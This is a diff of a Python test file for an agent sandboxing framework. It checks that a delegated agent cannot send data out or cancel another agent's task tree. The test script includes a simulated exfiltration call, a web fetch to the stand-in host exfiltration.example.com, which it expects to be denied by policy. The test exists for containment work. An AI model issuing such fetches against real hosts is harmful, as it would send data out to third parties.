@@ -16,6 +16,7 @@ from remit.agents.containment import container
 from support.audit import audit_log
 from support.cli import run
 from support.containment import SECRET, victim
+from support.pace import until
 from support.repository import git
 from support.sandboxes import probe
 
@@ -122,18 +123,11 @@ async def test_only_a_delegating_agent_reaches_the_process_that_owns_its_tree(tm
 ATTACHED = """
 import asyncio
 from pathlib import Path
-from remit import Context, Remit, RemitError, agent
-
-ADDRESS = "https://exfiltration.example.com/?content"
-
-@agent("lister", effects=("network",))
-async def lister(ctx: Context) -> list[str]:
-    return [ADDRESS]
+from remit import Remit, RemitError
 
 async def main():
-    async with Remit.open(".", agents=[lister]) as remit:
-        print((await remit.delegate("lister")).data == [ADDRESS])
-        print((await remit.delegate("worker.web_fetch", url=ADDRESS)).errors[0].code)
+    async with Remit.open(".") as remit:
+        print((await remit.delegate("worker.web_fetch", url="https://exfiltration.example.com/?content")).errors[0].code)
         try:
             await remit.cancel(Path("other.txt").read_text(), "mine")
         except RemitError as error:
@@ -145,7 +139,6 @@ asyncio.run(main())
 
 @needs_bubblewrap
 async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_path: Path) -> None:
-    """It registers an agent that claims to have learned an address from the web."""
     project = project_with(tmp_path, caller=command(sys.executable, "-c", ATTACHED, delegates=True), other=command("sleep", "60"))
     async with Remit.open(project) as remit:
         other = await remit.start("other", task="Work.", timeout=60)
@@ -153,7 +146,7 @@ async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_p
         result = await remit.delegate("caller", task="Attack.", timeout=60)
         assert (await remit.describe(other.session_id)).state == "running"
         await other.cancel()
-    assert result.data.splitlines() == ["True", "POLICY_DENIED", "FORBIDDEN"], result
+    assert result.data.splitlines() == ["POLICY_DENIED", "FORBIDDEN"], result
 
 
 @needs_bubblewrap
@@ -271,25 +264,13 @@ async def test_contained_program_gets_a_signal_and_is_killed_at_its_deadline(tmp
     project = project_with(tmp_path, sitter=command(sys.executable, "-c", script, answers="return"))
     async with Remit.open(project) as remit:
         handle = await remit.start("sitter", task="Sit.", timeout=60)
-        await until_there(project / "up.txt")
+        await until((project / "up.txt").exists)
         remit.engine.live()[handle.session_id].timer.reach_soft_deadline()
-        await until_there(project / "told.txt")
+        await until((project / "told.txt").exists)
         await handle.cancel("enough")
         result = await asyncio.wait_for(handle.result(), 20)
         assert result.stop_reason == "cancelled"
     assert not [line for line in _command_lines() if handle.session_id in line]
-
-
-def found(folder: Path) -> list[Path]:
-    return list(folder.iterdir())
-
-
-async def until_there(path: Path) -> None:
-    for _ in range(1000):
-        if path in found(path.parent):
-            return
-        await asyncio.sleep(0.02)
-    raise AssertionError(f"{path.name} was not written")
 
 
 def _command_lines() -> list[str]:
